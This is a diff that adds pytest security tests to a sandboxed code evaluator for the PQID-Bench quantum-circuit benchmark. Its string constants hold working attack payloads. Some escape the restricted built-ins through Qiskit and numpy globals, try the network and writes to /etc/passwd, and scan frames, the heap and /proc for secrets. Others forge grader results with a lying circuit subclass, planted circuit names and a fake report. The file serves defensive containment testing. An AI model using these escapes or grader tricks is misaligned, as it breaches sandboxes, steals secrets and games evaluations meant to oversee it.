@@ -1417,3 +1417,276 @@ def test_a_process_hog_in_one_replay_does_not_starve_a_concurrent_one(
     hog.join(timeout=90)
     evaluation = outcome.evaluations["ghz_05"]
     assert evaluation["category"] == "ok", evaluation.get("error")
+
+
+# -- attacks aimed at the PQID-Bench contract (issue 12) --------------------------------------
+#
+# Under this contract a response's code sees only the safe built-ins, but its preloaded objects
+# lead straight back to the real ones (a Qiskit function's globals, a module's dict): the
+# namespace is admissibility, not the boundary. Each attack below takes that way out, then runs
+# its body with the full built-ins and the snippet's own namespace (`namespace`). What contains
+# it is the process model: a forked, limited child that never holds the target metadata, and a
+# grader that recomputes every count from the QPY the child hands back. The frozen reference
+# harness, which runs code in the scorer's own process, is fooled by the first two.
+
+from evaluator.contracts import CONTRACT_PQID_BENCH  # noqa: E402
+
+PQID_BELL = "qc = QuantumCircuit(2, 2)\nqc.h(0)\nqc.cx(0, 1)\nqc.measure([0, 1], [0, 1])\n"
+PQID_GHZ = ("qc = QuantumCircuit(3, 3)\nqc.h(0)\nqc.cx(0, 1)\nqc.cx(1, 2)\n"
+            "qc.measure([0, 1, 2], [0, 1, 2])\n")
+PQID_TARGETS = {
+    "bell": {"num_qubits": 2, "num_clbits": 2, "gate_count": 4,
+             "gate_types": {"h": 1, "cx": 1, "measure": 2}},
+    "ghz": {"num_qubits": 3, "num_clbits": 3, "gate_count": 6,
+            "gate_types": {"h": 1, "cx": 2, "measure": 3}},
+}
+PQID_CONTROLS = {"bell": PQID_BELL, "ghz": PQID_GHZ}
+
+
+def pqid_escaping(body: str) -> str:
+    """A response that leaves the safe built-ins through a preloaded object, then runs body."""
+    return (f"ATTACK = {textwrap.dedent(body)!r}\n"
+            'real = QuantumCircuit.__init__.__globals__["__builtins__"]\n'
+            'real["exec"](ATTACK, {"__builtins__": real, "namespace": real["globals"](),\n'
+            '                      "QuantumCircuit": QuantumCircuit})\n')
+
+
+PQID_PRELUDE = """
+import os
+class Contained(Exception):
+    pass
+"""
+
+# The ways back: a Qiskit function's globals and a preloaded module's dict. Then what the real
+# built-ins give: os, files, the network; nothing of it reaches past the child.
+PQID_BACK_TO_OS = PQID_PRELUDE + """
+import socket
+qiskit_function = QuantumCircuit.__init__
+loader_function = type(namespace["np"].__loader__).__init__
+routes = []
+for label, table in [("a Qiskit function's globals", qiskit_function.__globals__["__builtins__"]),
+                     ("numpy's module dict", namespace["np"].__dict__["__builtins__"]),
+                     ("numpy's loader", loader_function.__globals__["__builtins__"])]:
+    table = table if isinstance(table, dict) else vars(table)
+    if table["__import__"]("os").getpid() == os.getpid():
+        routes.append(label)
+os.write(1, ("ESCAPED via " + ", ".join(routes)).encode())
+reached = []
+try:
+    socket.create_connection(("1.1.1.1", 443), timeout=3).close()
+    reached.append("network")
+except OSError:
+    pass
+for path in ("/opt/pqid/evaluator/supervisor.py", "/etc/passwd"):
+    try:
+        with open(path, "a"):
+            reached.append("write " + path)
+    except OSError:
+        pass
+if reached:
+    exec(__PQID_CONTROL__, namespace)
+else:
+    raise Contained("back to os via %d routes, nothing reached" % len(routes))
+"""
+
+# What fools the reference harness: the target metadata, read from the scorer's own process
+# (its frames, its heap) and turned into the exact circuit. Here it is nowhere to be found.
+PQID_READ_TARGET = PQID_PRELUDE + """
+import gc, re, sys
+needle = "".join(["gate", "_types"])  # not a constant of this code, so never found in it
+hexes = "[0-9a-f]{32}"
+secret = re.compile("__MARKER_PREFIX__" + hexes + "|__CANARY_PREFIX__" + hexes)
+found = []
+def look(where, value):
+    if isinstance(value, dict) and needle in value:
+        found.append((where, value))
+    elif isinstance(value, bytes):
+        text = value.decode("latin-1")
+        if needle in text or secret.search(text):
+            found.append((where, text[:200]))
+    elif isinstance(value, str) and secret.search(value):
+        found.append((where, value[:200]))
+frame = sys._getframe()
+while frame is not None:
+    for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
+        look("frame " + frame.f_code.co_name + "." + str(name), value)
+        if isinstance(value, dict):
+            for inner in list(value.values()):
+                look("frame " + frame.f_code.co_name + "." + str(name) + "[]", inner)
+    frame = frame.f_back
+for obj in gc.get_objects():
+    try:
+        look("gc", obj)
+    except Exception:
+        pass
+for name, value in os.environ.items():
+    look("env " + name, name + "=" + value)
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for part in ("environ", "cmdline"):
+        try:
+            with open("/proc/%s/%s" % (pid, part), "rb") as fh:
+                look("proc %s %s" % (pid, part), fh.read())
+        except OSError:
+            pass
+    if int(pid) != os.getpid():
+        try:
+            with open("/proc/%s/mem" % pid, "rb") as fh:
+                found.append(("mem " + pid, "opened"))
+        except OSError:
+            pass
+dicts = [value for _, value in found if isinstance(value, dict)]
+if dicts:  # a breach: the scorer's own target, read back and built
+    target = dicts[0]
+    namespace["qc"] = QuantumCircuit(target["num_qubits"], target["num_clbits"])
+if found:
+    os.write(1, ("FOUND " + repr(found)[:300]).encode())
+else:
+    raise Contained("no target metadata in frames, heap, environment or /proc")
+"""
+
+# A circuit that lies about itself: its width and clbits equal anything, its count_ops is the
+# target's map. The reference harness believes it; the grader reads the QPY.
+PQID_LYING_SUBCLASS = """
+class Always:
+    def __eq__(self, other):
+        return True
+    __hash__ = object.__hash__
+class Liar(QuantumCircuit):
+    num_qubits = property(lambda self: Always())
+    num_clbits = property(lambda self: Always())
+    def count_ops(self):
+        return {"h": 1, "cx": 1, "measure": 2}
+liar = Liar(1)
+liar.x(0)
+namespace["qc"] = liar
+"""
+
+# Circuits planted under names no assignment can make, so that they sort first: the choice
+# (made in the grader from the names and QPY) takes the first name, and scores what it is.
+PQID_PLANTED = """
+decoy = QuantumCircuit(1)
+decoy.x(0)
+namespace[""] = decoy
+namespace[7] = QuantumCircuit(2, 2)  # a name that is not a string cannot be ranked: ignored
+"""
+
+# The child's report forged: more names than circuits in the payload. No credit.
+PQID_FORGED_NAMES = PQID_PRELUDE + """
+import io, json, struct
+from qiskit import qpy
+def frame(data):
+    return struct.pack(">I", len(data)) + data
+good = QuantumCircuit(2, 2)
+good.h(0); good.cx(0, 1); good.measure([0, 1], [0, 1])
+buffer = io.BytesIO()
+qpy.dump([good], buffer)
+status = {"phase": "done", "error": None, "error_type": None, "exec_ms": 1,
+          "circuits": ["a", "qc"], "circuit_source": "module_level"}
+os.write(3, frame(json.dumps(status).encode()) + frame(buffer.getvalue()))
+os._exit(0)
+"""
+
+
+@dataclass(frozen=True)
+class PqidAttack:
+    """One response aimed at the PQID-Bench contract and what its evaluation must show."""
+
+    name: str
+    target: str
+    body: str  # run after leaving the safe built-ins
+    categories: frozenset[str]
+    evidence: Callable[[dict[str, Any]], bool] = field(compare=False)
+    before: str = ""  # plain code of the response before the escape
+
+    def code(self) -> str:
+        body = (self.body.replace("__MARKER_PREFIX__", MARKER_PREFIX)
+                .replace("__CANARY_PREFIX__", CANARY_PREFIX)
+                .replace("__PQID_CONTROL__", repr(PQID_CONTROLS[self.target])))
+        return self.before + pqid_escaping(body)
+
+
+PQID_ATTACKS: list[PqidAttack] = [
+    PqidAttack("preloaded objects as a way back to os and the real built-ins", "bell",
+               PQID_BACK_TO_OS, FAIL,
+               all_of(contained("back to os via 3 routes"),
+                      stdout_has("ESCAPED via a Qiskit function's globals"))),
+    PqidAttack("reading the target metadata from frames, heap, environment, /proc", "ghz",
+               PQID_READ_TARGET, FAIL,
+               lambda ev: str(ev.get("error")).startswith("Contained: no target metadata")
+               and not ev["target_context_recovery"]["report_signature_match"]),
+    PqidAttack("a QuantumCircuit subclass lying about count_ops, num_qubits, num_clbits",
+               "bell", PQID_LYING_SUBCLASS, frozenset({"width_mismatch"}),
+               lambda ev: ev["structure"]["found"]["num_qubits"] == 1
+               and ev["structure"]["found"]["gate_types"] == {"x": 1}
+               and not ev["target_context_recovery"]["report_signature_match"]),
+    PqidAttack("a circuit planted by name so that it is the one chosen", "bell",
+               PQID_PLANTED, frozenset({"width_mismatch"}),
+               lambda ev: ev["selected_circuit_name"] == "" and ev["circuit_count"] == 2
+               and ev["target_context_recovery"]["selected_circuit_name"] == "qc",
+               before=PQID_BELL),
+    PqidAttack("a forged report naming more circuits than it hands back", "bell",
+               PQID_FORGED_NAMES, FAIL,
+               lambda ev: ev["execution_error_type"] == "CircuitLoadError"
+               and not ev["report_executable"]),
+]
+
+
+@dataclass
+class PqidBattery:
+    evaluations: dict[str, dict[str, Any]]
+    killed: list[str]
+    not_evaluated: dict[str, str]
+    controls: list[str]
+    next_of: dict[str, str]
+    output: str
+
+
+@pytest.fixture(scope="module")
+def pqid_battery(docker_client: Any, image: str) -> PqidBattery:
+    """Every attack on the PQID-Bench contract, each followed by a control, in one container."""
+    runner = DockerEvaluatorRunner(base_image=BASE_IMAGE, wheelhouse=replay_docker._wheelhouse(),
+                                   client=docker_client)
+    runner.ensure_image(build=True)
+    items: list[EvaluationItem] = []
+    controls: list[str] = []
+    for i, attack in enumerate(PQID_ATTACKS):
+        control = "bell" if i % 2 else "ghz"
+        code = attack.code()
+        # The marker rides in the target metadata that only the supervisor holds.
+        target = {**PQID_TARGETS[attack.target], "reference_code": f"# {MARKER}"}
+        items.append(EvaluationItem(f"attack-{i}", None, code, target))
+        items.append(EvaluationItem(f"control-{i}", None, PQID_CONTROLS[control],
+                                    {**PQID_TARGETS[control], "reference_code": f"# {MARKER}"}))
+        controls.append(f"control-{i}")
+    next_of = {items[i].prompt_id: items[i + 1].prompt_id for i in range(len(items) - 1)}
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("PQID_CANARY_API_KEY", CANARY)
+        outcome = runner.run(items, EvaluatorConfig(timeout_seconds=TIMEOUT_SECONDS,
+                                                    contract=CONTRACT_PQID_BENCH))
+    return PqidBattery(outcome.evaluations, outcome.killed, outcome.not_evaluated, controls,
+                       next_of, json.dumps(outcome.evaluations))
+
+
+@pytest.mark.parametrize("index", range(len(PQID_ATTACKS)),
+                         ids=[a.name for a in PQID_ATTACKS])
+def test_each_pqid_bench_attack_is_contained(pqid_battery: PqidBattery, index: int) -> None:
+    attack = PQID_ATTACKS[index]
+    ev = pqid_battery.evaluations[f"attack-{index}"]
+    detail = {k: ev.get(k) for k in ("category", "error", "stdout_excerpt", "stderr_excerpt",
+                                     "selected_circuit_name", "report_signature_match")}
+    assert ev["contract"] == CONTRACT_PQID_BENCH, detail
+    assert ev["category"] in attack.categories, detail
+    assert attack.evidence(ev), detail
+    assert not ev["report_signature_match"], detail
+    assert "FOUND" not in str(ev.get("stdout_excerpt")), detail
+    following = pqid_battery.evaluations[pqid_battery.next_of[f"attack-{index}"]]
+    assert following["category"] == "ok" and following["report_signature_match"], following
+
+
+def test_pqid_bench_battery_keeps_the_container_and_every_secret(
+        pqid_battery: PqidBattery) -> None:
+    assert pqid_battery.killed == [] and pqid_battery.not_evaluated == {}
+    for pid in pqid_battery.controls:
+        assert pqid_battery.evaluations[pid]["category"] == "ok", pqid_battery.evaluations[pid]
+    assert MARKER not in pqid_battery.output and CANARY not in pqid_battery.output
+    assert MARKER_PREFIX not in pqid_battery.output
